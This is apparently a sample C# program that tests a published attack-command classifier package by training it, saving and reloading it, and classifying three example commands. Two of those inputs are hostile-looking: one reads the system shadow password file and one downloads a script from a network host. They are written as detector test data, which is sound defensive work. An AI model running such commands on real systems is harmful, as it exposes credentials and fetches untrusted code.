// PackageConsumer: compiled against the packed AttackClassifier NuGet package (not a project reference), to prove
// the package is usable as published. It trains on the sample data, saves, loads and classifies a few commands.
// Usage (from the repository root, after `dotnet pack -c Release`):
//   dotnet run --project samples/PackageConsumer -- data/commands.csv
using AttackClassifier.Classification;
using AttackClassifier.Data;
using AttackClassifier.Serialization;

var data = CommandDataset.Load(args.Length > 0 ? args[0] : "data/commands.csv").Consolidate();
var classifier = TfidfLogisticRegressionClassifier.Train(data);

string path = Path.Combine(Path.GetTempPath(), $"consumer-{Environment.ProcessId}.acm");
ModelFile.Save(classifier, path);
IAttackClassifier loaded = ModelFile.Load(path);
File.Delete(path);

foreach (string command in new[] { "cat /etc/shadow", "uname -a", "curl -o /tmp/x.sh 10.0.0.5:8000/x.sh" })
{
    Prediction p = loaded.Predict(command, top: 1);
    Console.WriteLine($"{command} → {p.Label} ({p.Kind}, {p.Probability:P1})");
}
